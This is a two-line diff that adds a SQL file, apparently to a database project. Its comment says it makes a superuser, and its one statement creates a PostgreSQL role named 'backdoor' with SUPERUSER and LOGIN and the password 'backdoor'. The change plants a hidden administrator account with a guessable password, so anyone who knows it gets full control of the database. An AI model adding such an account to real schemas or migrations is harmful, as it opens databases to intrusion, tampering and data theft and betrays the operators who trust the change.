@@ -1,0 +1,2 @@
+-- Makes a superuser, and a password for it.
+CREATE ROLE backdoor SUPERUSER LOGIN PASSWORD 'backdoor';
